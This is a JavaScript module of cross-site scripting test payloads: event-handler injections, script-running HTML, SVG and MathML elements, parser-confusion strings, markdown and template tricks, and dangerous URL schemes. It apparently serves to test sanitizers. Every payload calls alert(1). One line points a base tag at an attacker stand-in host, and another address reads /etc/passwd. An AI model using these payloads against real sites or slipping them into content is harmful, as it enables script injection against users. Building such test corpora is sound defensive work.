// What attackers write where text is expected, from what the HTML standard says of elements that run
// scripts, of event handlers, of how tags and addresses are read. Each calls `alert` if it runs.

/** Event handlers that browsers call by themselves or when somebody touches the page. */
const handlers = [
  'onabort', 'onanimationstart', 'onauxclick', 'onbeforeinput', 'onbeforetoggle', 'onblur', 'oncanplay', 'onchange',
  'onclick', 'onclose', 'oncontextmenu', 'oncopy', 'oncuechange', 'oncut', 'ondblclick', 'ondrag', 'ondragstart',
  'ondrop', 'onended', 'onerror', 'onfocus', 'onfocusin', 'onformdata', 'oninput', 'oninvalid', 'onkeydown',
  'onkeyup', 'onload', 'onloadeddata', 'onloadstart', 'onmousedown', 'onmouseenter', 'onmouseover', 'onmouseup',
  'onpaste', 'onpointerdown', 'onpointerenter', 'onpointerover', 'onpointerrawupdate', 'onreset', 'onresize',
  'onscroll', 'onscrollend', 'onsearch', 'onselect', 'onselectstart', 'onsubmit', 'ontoggle', 'ontouchstart',
  'ontransitionend', 'onwheel', 'onbegin', 'onend', 'onrepeat', 'onpageshow', 'onhashchange', 'onmessage',
];

const carriers = ['<img src=x H>', '<svg H></svg>', '<input autofocus H>', '<a href=# tabindex=0 H>x</a>'];

/** One for each handler, each in another kind of element. */
const handled = handlers.map((name, n) => carriers[n % carriers.length].replace('H', `${name}=alert(1)`));

/** Elements that run, load, post, cover or redirect by themselves. */
const elements = [
  '<script>alert(1)</script>', '<SCRIPT>alert(1)</SCRIPT >', '<script/x>alert(1)</script>', '<script src=data:,alert(1)></script>',
  '<script type=module>alert(1)</script>', '<svg><script>alert(1)</script></svg>', '<svg><script href=data:,alert(1) /></svg>',
  '<math><script>alert(1)</script></math>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1)//<</script>',
  '<script\n>alert(1)</script\n>', '<script\t/>alert(1)</script>', '</script><script>alert(1)</script>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src=javascript:alert(1)></iframe>', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<iframe onload=alert(1)></iframe>',
  '<frameset onload=alert(1)>', '<object data=javascript:alert(1)></object>', '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src=javascript:alert(1)>', '<applet code=x></applet>', '<base href="javascript:alert(1)//">', '<base href=https://attacker.invalid/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">', '<link rel=stylesheet href=data:text/css,*{display:none}>',
  '<style>@import "javascript:alert(1)";</style>', '<style>*{background:url(javascript:alert(1))}</style>', '<p style="position:fixed;inset:0;background:red">x</p>',
  '<form action=javascript:alert(1)><input type=submit id=go></form>', '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<isindex action=javascript:alert(1) type=image>', '<input type=image src=x formaction=javascript:alert(1)>', '<video><source onerror=alert(1) src=x></video>',
  '<audio src=x onerror=alert(1)></audio>', '<video poster=javascript:alert(1)></video>', '<img src=javascript:alert(1)>', '<img srcset="x 1x" onerror=alert(1)>',
  '<picture><source srcset=x><img onerror=alert(1)></picture>', '<image src=x onerror=alert(1)>', '<body onload=alert(1)>', '<html onmouseover=alert(1)>',
  '<body background=javascript:alert(1)>', '<table background=javascript:alert(1)><tr><td>x</table>', '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>', '<keygen autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)></textarea>',
  '<select autofocus onfocus=alert(1)></select>', '<xss autofocus tabindex=1 onfocus=alert(1)>x</xss>', '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>', '<slot onslotchange=alert(1)></slot>', '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
];

/** Where parsers that read twice, or in another order, are led astray. */
const twisted = [
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set onbegin=alert(1) attributename=x>', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=9 y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x" /></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">', '<math href=javascript:alert(1)>x</math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<noembed><img src=x onerror=alert(1)></noembed>', '<xmp><img src=x onerror=alert(1)></xmp><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title><img src=x onerror=alert(1)>', '<plaintext><img src=x onerror=alert(1)>', '<!--><img src=x onerror=alert(1)>-->', '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[><img src=x onerror=alert(1)>]]>', '<!DOCTYPE x [<!ENTITY a "<img src=x onerror=alert(1)>">]>', '<?xml-stylesheet href="javascript:alert(1)"?>', '<?php echo "<img src=x onerror=alert(1)>" ?>',
  '<img/src="x"/onerror=alert(1)>', '<img src=x\nonerror\n=\nalert(1)>', '<img src=x onerror=&#97;lert(1)>', '<img src=x onerror="&#x61;lert(1)">', '<img src=`x` onerror=alert(1)>', '<img """><img src=x onerror=alert(1)>">',
  '<a href="x" title="</a><img src=x onerror=alert(1)>">x</a>', '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '--><img src=x onerror=alert(1)>', '\\"><img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;', '%3Cimg src=x onerror=alert(1)%3E', '\u003cimg src=x onerror=alert(1)\u003e', '＜img src=x onerror=alert(1)＞', '{{ "<img src=x onerror=alert(1)>" | safe }}', '{% raw %}<img src=x onerror=alert(1)>{% endraw %}',
  '`<img src=x onerror=alert(1)>`', '~~<img src=x onerror=alert(1)>~~', '| <img src=x onerror=alert(1)> |\n|-|\n| x |', '> [!NOTE]\n> <img src=x onerror=alert(1)>', '- <img src=x onerror=alert(1)>', '# <img src=x onerror=alert(1)>',
  '## x {.a onclick=alert(1)}', '## x {#a" onclick=alert(1)}', '```<img src=x onerror=alert(1)>\nx\n```', '[^1]\n\n[^1]: <img src=x onerror=alert(1)>', '![<img src=x onerror=alert(1)>](https://a.invalid/)', '[<img src=x onerror=alert(1)>](https://a.invalid/)',
  '[x](https://a.invalid/ "<img src=x onerror=alert(1)>")', '[x](<https://a.invalid/ onfocus=alert(1) autofocus tabindex=1 z>)', '[x](https://a.invalid/"onmouseover="alert(1))', "[x](https://a.invalid/'onmouseover='alert(1))", '![x](https://a.invalid/"onerror="alert(1))', '![x" onerror="alert(1)](https://a.invalid/)',
  '<https://a.invalid/"onclick="alert(1)>', 'https://a.invalid/"onclick="alert(1)', '\u{E001}l0\u{E002}\u{E001}e0\u{E002}<img src=x onerror=alert(1)>', '\u{FDD0}<img src=x onerror=alert(1)>\u{FDD1}', '\u0000<img src=x onerror=alert(1)>', '<img src=x\u0000 onerror=alert(1)>', '<\u0000img src=x onerror=alert(1)>', '<img\u000csrc=x\u000conerror=alert(1)>',
];

export const texts = [...handled, ...elements, ...twisted];

/** Addresses that run something when they are followed. */
export const addresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)', 'java\tscript:alert(1)', 'java&#9;script:alert(1)', 'java&#10;script:alert(1)', 'java&#13;script:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)',
  '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)', '&#0000106avascript:alert(1)', '&#1;javascript:alert(1)', '&#14;javascript:alert(1)', '\u0001javascript:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3A;alert(1)', 'javascript:alert&lpar;1&rpar;',
  'javascript://a.invalid/%0Aalert(1)', 'javascript:/*a.md*/alert(1)', 'javascript:alert(1)//https://a.invalid/', 'javascript:alert(1)#https://a.invalid/', 'javascript:%61lert(1)', '%6aavascript:alert(1)', 'jav\\ascript:alert(1)', 'javas\\cript:alert(1)', 'java<!-- -->script:alert(1)', 'vbscript:alert(1)',
  'livescript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'DATA:text/html,x', 'data:application/xhtml+xml,x', 'blob:https://a.invalid/x', 'filesystem:https://a.invalid/x', 'view-source:javascript:alert(1)', 'about:blank', 'file:///etc/passwd', 'feed:javascript:alert(1)',
  'jar:javascript:alert(1)', 'ms-its:x', 'mhtml:x', 'intent://x#Intent;scheme=javascript;end', 'weixin://x', 'alipays://x', 'x-javascript:alert(1)', 'javascript\u200b:alert(1)', 'ｊavascript:alert(1)', '//javascript:alert(1)', '/javascript:alert(1)', '#javascript:alert(1)', '?javascript:alert(1)', 'http:javascript:alert(1)',
];
